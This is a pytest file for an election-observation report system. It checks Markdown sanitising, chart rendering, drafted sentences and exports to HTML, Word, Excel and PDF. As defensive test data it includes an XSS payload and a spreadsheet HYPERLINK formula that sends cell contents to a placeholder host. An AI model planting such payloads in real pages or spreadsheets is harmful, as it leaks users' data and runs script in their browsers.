"""The pieces every export is built from: Markdown, charts, draft sentences, formats."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from xml.etree import ElementTree

import pytest
from docx import Document as WordDocument
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader

from observation.kernel.roles import Role
from reports import queries, services
from reports.charts import BarChart, Series, to_png, to_svg
from reports.drafting import draft_sentences
from reports.exports import render_export
from reports.markdown import render_markdown
from tests.factories import make_party_meeting, make_user
from tests.reports.factories import build_world, make_report

pytestmark = pytest.mark.django_db


def test_markdown_is_rendered_then_sanitised():
    html = render_markdown("# Title\n\n**bold** <img src=x onerror=alert(1)> [a](javascript:x)")
    assert "<h3>Title</h3>" in html and "<strong>bold</strong>" in html
    assert "onerror" not in html and "<img" not in html and "javascript" not in html


@pytest.mark.parametrize("horizontal, stacked", [(False, False), (True, True), (False, True)])
def test_charts_are_valid_svg_and_png(horizontal, stacked):
    chart = BarChart("c", "Voters <&>", ["Bishkek", "Ош"],
                     [Series("Male", [42.2, 45.6]), Series("Female", [57.8, 54.4])],
                     horizontal=horizontal, stacked=stacked, unit="%")  # fmt: skip
    svg = to_svg(chart)
    root = ElementTree.fromstring(svg)
    assert root.tag.endswith("svg") and "Voters &lt;&amp;&gt;" in svg
    assert "Bishkek" in svg and "Ош" in svg
    image = Image.open(io.BytesIO(to_png(chart)))
    assert image.format == "PNG" and image.size[0] > 600


def test_chart_with_no_data_still_draws():
    assert "<svg" in to_svg(BarChart("e", "Empty", [], []))


def test_draft_sentences_come_from_the_numbers():
    world = build_world(districts=2, parties=2, incidents_per_district=3)
    data = queries.report_data(make_report(world.election))
    violations = " ".join(draft_sentences("violations", data, "en"))
    assert "6 violations" in violations and "6 of vote buying" in violations
    voters = draft_sentences("voter_registration", data, "en")
    assert "40.6" in voters[0] and "grew by 10 voters" in voters[0]
    assert draft_sentences("summary", data, "en") == []
    assert draft_sentences("about_elections", data, "en")


def _report_with_text(language="en"):
    world = build_world(districts=1, incidents_per_district=2)
    analyst = make_user(Role.ANALYST)
    report = make_report(world.election, actor=analyst, language=language)
    services.report_section_update(actor=analyst, report=report, key="summary",
                                   body="Наблюдатели **отметили** нарушения.")  # fmt: skip
    services.abbreviation_create(actor=analyst, report=report, short="ЦИК", meaning="Центризбирком")
    services.recommendation_create(actor=analyst, report=report, addressee="other",
                                   text="Сообщать избирателям.")  # fmt: skip
    return queries.report_document(queries.report_with_parts().get(pk=report.pk))


def test_a_renewal_with_nothing_recorded_of_the_outgoing_composition_says_so():
    """A re-elected term marks a renewal even when no earlier term is recorded: the
    report says nothing of the outgoing composition is recorded and prints no empty
    table; the new composition is printed with its count."""
    from commissions.models import Commission, CommissionMember

    world = build_world(districts=1, parties=1)
    report = make_report(world.election)
    cec = Commission.objects.get(election=world.election, level="CEC")
    day = report.period_start + dt.timedelta(days=2)
    CommissionMember.objects.create(commission=cec, full_name="A", term_start=day, re_elected=True)
    CommissionMember.objects.create(commission=cec, full_name="B", term_start=day)
    data = queries.report_data(report)
    assert data["commissions"]["cec"][0]["renewal"]["outgoing"] == []
    document = queries.report_document(report, data)
    keys = {t.key for t in document.tables()}
    assert f"incoming-{cec.name}" in keys and f"outgoing-{cec.name}" not in keys
    html = render_export(document, "html").decode()
    assert "No member of the outgoing composition (in office on" in html
    assert "(2 members)" in html
    sentences = draft_sentences("commissions", data, "en")
    assert "No member of the outgoing composition is recorded." in sentences


def test_no_export_contains_witness_data_or_observer_identity():
    document = _report_with_text()
    html = render_export(document, "html").decode()
    assert "Secretname" not in html and "+996" not in html
    word = WordDocument(io.BytesIO(render_export(document, "docx")))
    text = "\n".join(p.text for p in word.paragraphs) + "".join(
        c.text for t in word.tables for r in t.rows for c in r.cells
    )
    assert "Secretname" not in text
    book = load_workbook(io.BytesIO(render_export(document, "xlsx")))
    cells = " ".join(str(v) for s in book for r in s.iter_rows(values_only=True) for v in r if v)
    assert "Secretname" not in cells and "user" not in cells


def test_cyrillic_survives_every_format():
    document = _report_with_text(language="ru")
    assert "отметили" in render_export(document, "html").decode()
    pdf = PdfReader(io.BytesIO(render_export(document, "pdf")))
    text = " ".join(p.extract_text() for p in pdf.pages)
    assert "отметили" in text and "ЦИК" in text
    word = WordDocument(io.BytesIO(render_export(document, "docx")))
    assert any("отметили" in p.text for p in word.paragraphs)


def test_docx_uses_real_headings_and_tables():
    document = _report_with_text()
    word = WordDocument(io.BytesIO(render_export(document, "docx")))
    headings = [p.text for p in word.paragraphs if p.style.name == "Heading 1"]
    assert headings[1:4] == ["Abbreviations and acronyms", "1. Summary", "2. Introduction"]
    assert len(word.tables) >= 5
    assert word.inline_shapes  # the charts, as pictures


def test_xlsx_has_one_sheet_per_table_with_numbers():
    document = _report_with_text()
    book = load_workbook(io.BytesIO(render_export(document, "xlsx")))
    assert {"Table 1 Voter lists", "Table 2 Gender and age", "Table 3 Districts",
            "Violations by district"} <= set(book.sheetnames)  # fmt: skip
    table1 = list(book["Table 1 Voter lists"].iter_rows(values_only=True))
    assert any(row[1:5] == (10, 1000, 1010, 10) for row in table1)
    assert len(book.sheetnames) == 1 + len(document.tables())


def test_html_has_a_table_of_contents_linking_every_section():
    html = render_export(_report_with_text(), "html").decode()
    anchors = re.findall(r'href="#(section-[a-z_]+)"', html)
    assert len(anchors) == 10
    for anchor in anchors:
        assert f'id="{anchor}"' in html


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_xlsx_writes_text_that_looks_like_a_formula_as_text():
    """An observer typed ``=HYPERLINK(...)`` into a party meeting: the export shows it as
    text, exactly as typed, and the workbook holds no formula at all (docs/reports.md)."""
    world = build_world(districts=1, incidents_per_district=1)
    analyst = make_user(Role.ANALYST)
    district = world.districts[0]
    for n, concerns in enumerate(FORMULAS):
        make_party_meeting(
            party=world.parties[0],
            district=district,
            date=world.election.observation_start + dt.timedelta(days=n),
            concerns=concerns,
        )
    report = make_report(world.election, actor=analyst, title="=1+2 report")
    document = queries.report_document(queries.report_with_parts().get(pk=report.pk))
    raw = render_export(document, "xlsx")
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    book = load_workbook(io.BytesIO(raw))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value]
    typed = {c.value: c for c in cells if c.value in FORMULAS or c.value == "=1+2 report"}
    assert set(typed) == {*FORMULAS, "=1+2 report"}
    assert all(c.data_type == "s" and c.quotePrefix for c in typed.values())
    assert not any(c.data_type == "f" for c in cells)
    # numbers stay numbers
    assert any(isinstance(c.value, int) for c in cells)


def test_write_cell_leaves_ordinary_values_alone():
    from openpyxl import Workbook

    from observation.kernel.spreadsheets import write_cell

    sheet = Workbook().active
    assert write_cell(sheet, 1, 1, "Bishkek").quotePrefix is False
    assert write_cell(sheet, 1, 2, -5).data_type == "n"
    assert write_cell(sheet, 1, 3, "=A1").data_type == "s"
